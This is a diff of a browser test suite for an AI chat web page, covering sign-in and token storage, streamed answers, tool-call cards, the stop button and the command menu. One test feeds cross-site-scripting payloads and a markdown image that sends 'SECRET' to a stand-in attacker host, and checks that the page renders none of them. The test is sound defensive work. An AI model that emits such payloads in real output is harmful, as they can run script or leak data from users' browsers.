@@ -1,69 +1,69 @@
-/** The page in a real browser: signing in, watching an answer grow, and what hostile text gets. */
+/** The page in a real browser: signing in, following an answer as it grows, and hostile texts. */
 import { beforeEach, describe, expect, it, vi } from 'vitest';
 import { signIn, WAIT, write } from './browser.ts';
-import { describeEntrance, TOKEN } from './describe-page.ts';
+import { describePageOnFakeGateway, TOKEN } from './describe-page.ts';
 
-describeEntrance('the page', (guest, at) => {
-  beforeEach(() => guest.enter(at.api.url));
+describePageOnFakeGateway('the page', (tab, fixture) => {
+  beforeEach(() => tab.open(fixture.api.url));
 
   describe('signing in', () => {
-    it('refuses a wrong token readably, takes a right one, and never puts it in the address', async () => {
-      await guest.page.getByLabel('Token').fill('wrong');
-      await guest.page.keyboard.press('Enter');
-      await guest.page.getByText('That token is not valid.').waitFor();
-      await signIn(guest.page, TOKEN);
-      await guest.page.getByText('What shall we talk about?').waitFor();
-      expect(guest.page.url()).not.toContain('token');
-      expect(await guest.page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 1]);
-      await guest.page.reload();
-      await guest.page.getByText('What shall we talk about?').waitFor();
+    it('explains a wrong token, accepts a valid one, and never puts it in the address', async () => {
+      await tab.page.getByLabel('Token').fill('wrong');
+      await tab.page.keyboard.press('Enter');
+      await tab.page.getByText('That token is not valid.').waitFor();
+      await signIn(tab.page, TOKEN);
+      await tab.page.getByText('What shall we talk about?').waitFor();
+      expect(tab.page.url()).not.toContain('token');
+      expect(await tab.page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 1]);
+      await tab.page.reload();
+      await tab.page.getByText('What shall we talk about?').waitFor();
     });
 
-    it('stays on the device only when asked to, and is undone by signing out', async () => {
-      await guest.page.getByLabel('Keep me signed in').check();
-      await signIn(guest.page, TOKEN);
-      expect(await guest.page.evaluate(() => localStorage.length)).toBe(1);
-      await guest.page.getByRole('button', { name: 'Sign out' }).click();
-      await guest.page.getByLabel('Token').waitFor();
-      expect(await guest.page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 0]);
+    it('keeps the token on the device only when asked to, and removes it on sign-out', async () => {
+      await tab.page.getByLabel('Keep me signed in').check();
+      await signIn(tab.page, TOKEN);
+      expect(await tab.page.evaluate(() => localStorage.length)).toBe(1);
+      await tab.page.getByRole('button', { name: 'Sign out' }).click();
+      await tab.page.getByLabel('Token').waitFor();
+      expect(await tab.page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 0]);
     });
 
-    it('is asked for again when the token is revoked', async () => {
-      await signIn(guest.page, TOKEN);
-      await at.ask('hello');
-      at.api.gateway.tokens.clear();
-      await guest.page.getByLabel('Token').waitFor();
-      expect(await guest.page.getByRole('alert').first().innerText()).toContain('That token is not valid.');
+    it('asks for a token again when it is revoked', async () => {
+      await signIn(tab.page, TOKEN);
+      await fixture.ask('hello');
+      fixture.api.gateway.tokens.clear();
+      await tab.page.getByLabel('Token').waitFor();
+      expect(await tab.page.getByRole('alert').first().innerText()).toContain('That token is not valid.');
     });
   });
 
   describe('an answer', () => {
-    beforeEach(() => signIn(guest.page, TOKEN));
+    beforeEach(() => signIn(tab.page, TOKEN));
 
     it('grows token by token and ends as exactly the stored text (B-43)', async () => {
-      const turn = await at.ask('tell me');
-      await guest.page.getByLabel('The answer is being made').waitFor();
+      const turn = await fixture.ask('tell me');
+      await tab.page.getByLabel('Working on the answer').waitFor();
       turn.say('Once **upon**');
-      await guest.page.locator('.md strong', { hasText: 'upon' }).waitFor();
+      await tab.page.locator('.md strong', { hasText: 'upon' }).waitFor();
       turn.say(' a time');
-      await guest.page.locator('.md', { hasText: 'Once upon a time' }).waitFor();
+      await tab.page.locator('.md', { hasText: 'Once upon a time' }).waitFor();
       turn.end();
-      await guest.page.locator('.turn-foot time').waitFor();
-      expect(await guest.page.locator('.md').allInnerTexts()).toEqual(['Once upon a time']);
+      await tab.page.locator('.turn-foot time').waitFor();
+      expect(await tab.page.locator('.md').allInnerTexts()).toEqual(['Once upon a time']);
       expect(turn.final?.content).toBe('Once **upon** a time');
-      expect(await guest.page.locator('#announcer').innerText()).toContain('a time');
+      expect(await tab.page.locator('#announcer').innerText()).toContain('a time');
     });
 
-    it('folds its thinking and shows tool calls as cards, pending and done (B-42, N-53)', async () => {
-      const turn = await at.ask('look');
+    it('folds its thinking and shows tool calls as cards, running and done (B-42, N-53)', async () => {
+      const turn = await fixture.ask('look');
       turn.think('First I look, ', 'then I speak.');
-      const thinking = guest.page.locator('details.thinking');
+      const thinking = tab.page.locator('details.thinking');
       await thinking.getByText('Thought for').waitFor();
       expect(await thinking.getByText('First I look').isVisible()).toBe(false);
       await thinking.locator('summary').click();
       await thinking.getByText('First I look, then I speak.').waitFor();
       const call = turn.tool('read_file', { path: 'notes.md' });
-      const card = guest.page.locator('.tool');
+      const card = tab.page.locator('.tool');
       await card.getByText('running…').waitFor();
       turn.result(call, 'read_file', 'three lines');
       await card.getByText('done', { exact: true }).waitFor();
@@ -73,43 +73,43 @@ describeEntrance('the page', (guest, at) => {
       const lost = turn.tool('list_dir', {});
       expect(lost).toMatch(/call/);
       turn.end('stopped');
-      await guest.page.getByText('not finished').waitFor();
+      await tab.page.getByText('not finished').waitFor();
     });
 
-    it('stops when told to', async () => {
-      const turn = await at.ask('a long story');
+    it('stops when the Stop button is pressed', async () => {
+      const turn = await fixture.ask('a long story');
       turn.say('It was');
-      await guest.page.getByRole('button', { name: 'Stop the answer' }).click();
-      await guest.page.locator('.md em', { hasText: '(stopped)' }).waitFor();
+      await tab.page.getByRole('button', { name: 'Stop the answer' }).click();
+      await tab.page.locator('.md em', { hasText: '(stopped)' }).waitFor();
       expect(turn.stopped.signal.aborted).toBe(true);
-      await guest.page.getByRole('button', { name: 'Stop the answer' }).waitFor({ state: 'hidden' });
-      expect((await guest.page.locator('.md').allInnerTexts()).join(' ')).toBe('It was (stopped)');
+      await tab.page.getByRole('button', { name: 'Stop the answer' }).waitFor({ state: 'hidden' });
+      expect((await tab.page.locator('.md').allInnerTexts()).join(' ')).toBe('It was (stopped)');
     });
 
-    it('says how many messages are before it', async () => {
-      const first = await at.ask('one');
-      await write(guest.page, 'two');
-      await guest.page.getByText('Waiting: one message is before this one.').waitFor();
-      await write(guest.page, 'three');
-      await guest.page.getByText('Waiting: 2 messages are before this one.').waitFor();
+    it('shows how many messages are ahead of it', async () => {
+      const first = await fixture.ask('one');
+      await write(tab.page, 'two');
+      await tab.page.getByText('Waiting: one message is before this one.').waitFor();
+      await write(tab.page, 'three');
+      await tab.page.getByText('Waiting: 2 messages are before this one.').waitFor();
       first.say('Answer one');
       first.end();
-      await guest.page.getByText('Waiting: 2 messages').waitFor({ state: 'hidden' });
-      at.turns[1]?.say('Answer two');
-      at.turns[1]?.end();
-      await guest.page.locator('.md', { hasText: 'Answer two' }).waitFor();
-      const shown = await guest.page.locator('.bubble, .md').allInnerTexts();
+      await tab.page.getByText('Waiting: 2 messages').waitFor({ state: 'hidden' });
+      fixture.turns[1]?.say('Answer two');
+      fixture.turns[1]?.end();
+      await tab.page.locator('.md', { hasText: 'Answer two' }).waitFor();
+      const shown = await tab.page.locator('.bubble, .md').allInnerTexts();
       expect(shown).toEqual(['one', 'Answer one', 'two', 'Answer two', 'three']);
     });
 
-    it('offers the commands of the gateway behind a slash, by keyboard and by hand', async () => {
-      const field = guest.page.getByLabel('Message', { exact: true });
-      const menu = guest.page.getByRole('listbox', { name: 'Commands' });
+    it('offers the commands of the gateway after a slash, by keyboard and by mouse', async () => {
+      const field = tab.page.getByLabel('Message', { exact: true });
+      const menu = tab.page.getByRole('listbox', { name: 'Commands' });
       await field.pressSequentially('/');
       await vi.waitFor(async () => expect(await menu.getByRole('option').count()).toBe(5), WAIT);
       await field.press('ArrowUp');
       expect(await menu.getByRole('option', { selected: true }).innerText()).toContain('/help');
-      await guest.look('commands');
+      await tab.screenshot('commands');
       await field.press('Escape');
       await menu.waitFor({ state: 'hidden' });
       await field.pressSequentially('m');
@@ -120,43 +120,43 @@ describeEntrance('the page', (guest, at) => {
       expect(await field.inputValue()).toBe('/status');
       await field.fill('/status');
       await field.press('Enter');
-      await guest.page.locator('.bubble', { hasText: '/status' }).waitFor();
+      await tab.page.locator('.bubble', { hasText: '/status' }).waitFor();
       expect(await field.inputValue()).toBe('');
       expect(await menu.isVisible()).toBe(false);
     });
 
-    it('may fail, and then says why (B-47)', async () => {
-      const turn = await at.ask('hello');
+    it('shows why it failed (B-47)', async () => {
+      const turn = await fixture.ask('hello');
       turn.end('failed', 'No model server answers. Start it with "ollama serve".');
-      const error = guest.page.locator('.turn-error');
+      const error = tab.page.locator('.turn-error');
       await error.waitFor();
       expect(await error.innerText()).toBe('No model server answers. Start it with "ollama serve".');
     });
 
-    it('begins again where a model call broke', async () => {
-      const turn = await at.ask('hello');
+    it('starts over when a model call is repeated', async () => {
+      const turn = await fixture.ask('hello');
       turn.say('Good mor');
-      await guest.page.locator('.md', { hasText: 'Good mor' }).waitFor();
+      await tab.page.locator('.md', { hasText: 'Good mor' }).waitFor();
       turn.reset();
       turn.say('Bonjour');
       turn.end();
-      await guest.page.locator('.turn-foot time').waitFor();
-      expect(await guest.page.locator('.md').allInnerTexts()).toEqual(['Bonjour']);
+      await tab.page.locator('.turn-foot time').waitFor();
+      expect(await tab.page.locator('.md').allInnerTexts()).toEqual(['Bonjour']);
     });
 
-    it('goes on where a snapshot ends, in the same paragraph', async () => {
-      const turn = await at.ask('hello');
+    it('continues in the same paragraph after a snapshot', async () => {
+      const turn = await fixture.ask('hello');
       turn.say('one **bo');
-      await guest.page.locator('.md', { hasText: 'bo' }).waitFor();
+      await tab.page.locator('.md', { hasText: 'bo' }).waitFor();
       turn.snapshot();
       turn.say('ld** word');
-      await guest.page.locator('.md strong', { hasText: 'bold' }).waitFor();
-      expect(await guest.page.locator('.md').allInnerTexts()).toEqual(['one bold word']);
+      await tab.page.locator('.md strong', { hasText: 'bold' }).waitFor();
+      expect(await tab.page.locator('.md').allInnerTexts()).toEqual(['one bold word']);
       turn.end();
     });
 
-    it('cannot run, load or frame anything, whatever the model writes', async () => {
-      const turn = await at.ask('<img src=x onerror=alert(1)>');
+    it('cannot run, load or embed anything, whatever the model writes', async () => {
+      const turn = await fixture.ask('<img src=x onerror=alert(1)>');
       turn.say(
         '<script>alert(1)</script> <img src=x onerror=alert(2)>\n\n',
         '![x](https://evil.example/?d=SECRET) [click](javascript:alert(3)) [data](data:text/html,hi)\n\n',
@@ -164,24 +164,24 @@ describeEntrance('the page', (guest, at) => {
         '| a | <b onclick=alert(5)>b</b> |\n|---|---|\n| `<i>` | [z](vbscript:x) |\n',
       );
       turn.end();
-      await guest.page.locator('.turn-foot time').waitFor();
-      expect(await guest.page.locator('.turn :is(script, img, iframe, b, i:not(.dots i))').count()).toBe(0);
-      const hrefs = await guest.page
+      await tab.page.locator('.turn-foot time').waitFor();
+      expect(await tab.page.locator('.turn :is(script, img, iframe, b, i:not(.dots i))').count()).toBe(0);
+      const hrefs = await tab.page
         .locator('.turn a')
         .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
       expect(hrefs.every((href) => href?.startsWith('https://') === true)).toBe(true);
       expect(hrefs).toHaveLength(3);
-      expect(await guest.page.locator('.md').innerText()).toContain('<script>alert(1)</script>');
+      expect(await tab.page.locator('.md').innerText()).toContain('<script>alert(1)</script>');
     });
 
-    it('keeps code as it is, with a button to copy it', async () => {
-      await guest.page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
-      const turn = await at.ask('code');
+    it('shows code unchanged, with a button to copy it', async () => {
+      await tab.page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
+      const turn = await fixture.ask('code');
       turn.say('```js\nconst a = "<b>";\n  indented();\n', '```\n');
       turn.end();
-      await guest.page.getByRole('button', { name: 'Copy the code' }).click();
-      await guest.page.getByText('Copied').waitFor();
-      expect(await guest.page.evaluate(() => navigator.clipboard.readText())).toBe(
+      await tab.page.getByRole('button', { name: 'Copy the code' }).click();
+      await tab.page.getByText('Copied').waitFor();
+      expect(await tab.page.evaluate(() => navigator.clipboard.readText())).toBe(
         'const a = "<b>";\n  indented();',
       );
     });
